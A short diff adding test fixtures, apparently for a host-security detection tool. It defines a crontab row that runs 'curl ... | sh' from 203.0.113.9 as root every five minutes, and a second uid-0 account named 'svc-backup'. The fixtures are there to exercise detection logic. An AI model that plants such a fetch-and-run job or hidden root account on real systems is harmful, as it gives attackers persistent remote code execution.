@@ -21,6 +21,19 @@ from typing import Any
 RUN_ID = "20261129T101500Z-a1b2c3"
 ZERO_SHA = "0" * 64
 
+# Textbook attacker rows the judgement tests inject (a fetch-and-run cron line, a second uid-0 account).
+CRON = {
+    "path": "/etc/crontab",
+    "minute": "*/5",
+    "hour": "*",
+    "day_of_month": "*",
+    "month": "*",
+    "day_of_week": "*",
+    "event": "",
+    "command": "root curl -fsSL http://203.0.113.9/x | sh",
+}
+ROOT2 = {"username": "svc-backup", "uid": "0", "gid": "0", "shell": "/bin/bash", "directory": "/root"}
+
 
 def _sha(data: bytes) -> str:
     return hashlib.sha256(data).hexdigest()
